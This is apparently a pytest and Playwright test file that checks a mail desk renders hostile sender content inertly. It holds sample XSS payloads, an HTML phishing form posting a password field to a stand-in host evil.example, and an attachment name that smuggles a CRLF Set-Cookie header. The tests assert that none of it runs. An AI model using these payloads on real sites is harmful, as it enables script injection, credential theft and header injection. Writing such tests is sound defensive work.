"""What strangers send stays inert: names, subjects, words, file names, designed mails, pictures."""

import re

import pytest
from playwright.sync_api import expect

from hub_contract.words import Attachment, Body
from hub_pages.testing import check_page

# One of each kind of place where words end up: text, attribute, script, address, style.
CORPUS = [
    "<script>window.hit=1</script>",
    "<img src=x onerror='window.hit=1'>",
    '"><svg onload=window.hit=1>',
    "' onmouseover='window.hit=1",
    "</textarea><script>window.hit=1</script>",
    "</title><script>window.hit=1</script>",
    "javascript:window.hit=1",
    "{{ 7 * 7 }}{% raw %}",
    "<iframe srcdoc='<script>parent.hit=1</script>'>",
    "\u202egpj.exe",
    '<a hx-get="/desk/c" hx-trigger="load">',
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
]
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>parent.hit=1</script></svg>'
HTML = (
    "<script>parent.hit=1</script><img src=x onerror=parent.hit=1>"
    "<form action=https://evil.example><input name=password></form>"
    "<a href='javascript:parent.hit=1'>hier</a><meta http-equiv=refresh content='0;url=/'>"
    "<style>@import 'https://evil.example/x.css'</style><p>Guten Tag</p>"
)
FILES = [
    ("bild.svg", "image/svg+xml", SVG),
    ("seite.html", "text/html", HTML.encode()),
    ("bild.png", "image/png", b"\x89PNG\r\n\x1a\n"),
    ("<img src=x onerror=hit=1>.txt", "text/plain", b"<script>window.hit=1</script>"),
    ("x.xml", "application/xhtml+xml", b"<html/>"),
    ("makro\r\nSet-Cookie: a=b.pdf", "application/pdf", b"%PDF-1.7"),
]


@pytest.fixture
def hostile(office):
    """Everything hostile in one conversation: many names by one address, so each answers the first."""
    attached = tuple(
        Attachment(file_name=name, media_type=kind, size=len(data)) for name, kind, data in FILES
    )
    mails = []
    for text in CORPUS:
        begins = not mails
        mail = office.mail(
            "mallory@example.org",
            name=text,
            subject=text,
            body=Body(
                text=f"{text}\n[image 3: bild.png]" if begins else text,
                quoted=text,
                signature=text,
                html=HTML,
            ),
            original=HTML.encode(),
            attachments=attached if begins else (),
            files=tuple(data for *_, data in FILES) if begins else (),
            answers=() if begins else (mails[0].event.content.external_id,),
            problems=({"code": "charset_wrong", "about": text}, text),
        )
        mails.append(mail)
    return office.take_in(*mails)[-1]


@pytest.mark.real("chromium")
def test_a_browser_runs_none_of_it(office, hostile, browser):
    # Not by `visit`: here the browser has every reason to complain.
    page = browser.new_page(viewport={"width": 1400, "height": 1000})
    page.goto(f"{office.address}/desk/c/{hostile}")
    page.on("dialog", lambda dialog: pytest.fail(dialog.message))
    # By key: what opens moves all that is below it, also from under a mouse.
    for folded in page.locator("details.entry__more > summary").all():
        folded.press("Enter")
    expect(page.locator(".whole")).to_have_count(len(CORPUS))
    for designed in page.locator(".whole__designed > summary").all():
        designed.press("Enter")
        designed.scroll_into_view_if_needed()
    while len(page.frames) <= len(CORPUS):  # beside the page itself
        page.wait_for_timeout(50)
    page.wait_for_timeout(1500)  # for what must not happen
    assert page.evaluate("window.hit") is None
    assert page.locator(".timeline script, .queue script, .side script").count() == 0
    assert page.url.endswith(hostile)
    inside = [frame for frame in page.frames if frame.parent_frame]
    assert len(inside) == len(CORPUS)
    assert all(frame.url.endswith("/designed") for frame in inside)
    page.close()


def test_pages_quote_every_word(office, hostile):
    with office.client() as desk:
        pages = [desk.get("/").text, desk.get(f"/c/{hostile}").text]
        entries = office.sql("select id from entry order by place")
        pages += [desk.get(f"/e/{entry['id']}").text for entry in entries]
        desk.post(f"/c/{hostile}/draft", data={"text": CORPUS[4]})
        pages.append(desk.get(f"/c/{hostile}").text)
        pages.append(desk.post("/search", data={"q": CORPUS[0]}).text)
    picture = f'src="/desk/e/{entries[0]["id"]}/files/2/view" alt="bild.png"'
    assert picture in pages[1]
    assert picture in pages[2]
    for page in pages:
        assert "<script>window" not in page
        assert "onerror='" not in page
        assert "<svg" not in page
        assert not re.search(r"<a [^>]*href=\"javascript", page)
        assert "49" not in re.findall(r"hub-text\">([^<]*)", page)


EXPECTED = [
    ("attachment", "application/octet-stream", "attachment"),
    ("attachment", "application/octet-stream", "attachment"),
    ("attachment", "image/png", "inline"),
    ("attachment", "text/plain; charset=utf-8", "inline"),
    ("attachment", "application/octet-stream", "attachment"),
    ("attachment", "application/octet-stream", "attachment"),
]


@pytest.mark.parametrize("number", range(len(FILES)))
def test_attachments_never_execute(office, hostile, number):
    saved, kind, viewed = EXPECTED[number]
    [entry] = office.sql("select id from entry where content is not null order by place limit 1")
    with office.client() as desk:
        file = desk.get(f"/e/{entry['id']}/files/{number}")
        view = desk.get(f"/e/{entry['id']}/files/{number}/view")
    assert file.content == view.content == FILES[number][2]
    assert file.headers["content-disposition"].startswith(saved)
    assert view.headers["content-disposition"].startswith(viewed)
    assert view.headers["content-type"] == kind
    for answer in (file, view):
        assert answer.headers["content-security-policy"].startswith("sandbox; default-src 'none'")
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert "set-cookie" not in answer.headers


def test_the_original_and_the_designed_mail_are_locked(office, hostile):
    [entry] = office.sql("select id from entry order by place limit 1")
    with office.client() as desk:
        original = desk.get(f"/e/{entry['id']}/original")
        designed = desk.get(f"/e/{entry['id']}/designed")
    assert original.content == HTML.encode()
    assert original.headers["content-disposition"].startswith("attachment")
    policy = designed.headers["content-security-policy"]
    assert policy.startswith("sandbox; default-src 'none'")
    assert "script" not in policy
    assert "allow-" not in policy


@pytest.mark.real("chromium")
def test_the_page_of_a_hostile_mail_is_still_a_good_page(office, hostile, visit):
    page = visit(f"{office.address}/desk/c/{hostile}", viewport={"width": 1400, "height": 1000})
    page.wait_for_selector("#talk-title")
    check_page(page)
